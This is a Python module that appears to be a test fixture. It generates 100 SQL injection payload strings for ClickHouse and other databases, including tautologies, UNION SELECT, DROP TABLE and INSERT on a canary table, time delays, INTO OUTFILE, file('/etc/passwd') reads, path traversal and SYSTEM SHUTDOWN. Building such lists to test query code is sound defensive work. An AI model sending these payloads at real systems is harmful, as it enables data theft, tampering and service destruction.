"""A hundred texts that are SQL where somebody builds statements from strings, for ClickHouse and for others."""

from __future__ import annotations

from typing import Final

_BREAKS = ("'", '"', "`", "')", "'))", "\\'", "''", "}", "',", "1")
_TAILS = (
    " OR 1=1 -- ",
    " OR ''='",
    " UNION ALL SELECT * FROM trace_events -- ",
    "; DROP TABLE canary; -- ",
    "; INSERT INTO canary VALUES (2); -- ",
    " AND sleepEachRow(3) = 0 /* ",
    " SETTINGS additional_table_filters = {} -- ",
    " INTO OUTFILE '/tmp/steersman-sql-payload' -- ",
)
_OTHERS = (
    "{tenant:String}",
    "{canary:Identifier}",
    "%' OR tenant LIKE '%",
    "globex' /*",
    "*/ OR 1=1 /*",
    "(SELECT count() FROM canary)",
    "$$ OR 1=1 -- $$",
    "‘ OR 1=1 --",
    "x\\",
    "\\x27 OR 1=1 -- ",
    "file('/etc/passwd')",
    "url('http://127.0.0.1:1/')",
    "1e999",
    "NULL",
    "%27%20OR%201%3D1",
    "tenant",
    "../../etc/passwd",
    "a\tb' OR 1=1",
    "0x27204f5220313d31",
    "';SYSTEM SHUTDOWN;'",
)
PAYLOADS: Final = tuple(f"x{b}{t}" for b in _BREAKS for t in _TAILS) + _OTHERS
"""All of them, without line feeds, so that each can stand in a header or an address as well."""
assert len(PAYLOADS) == len(set(PAYLOADS)) == 100
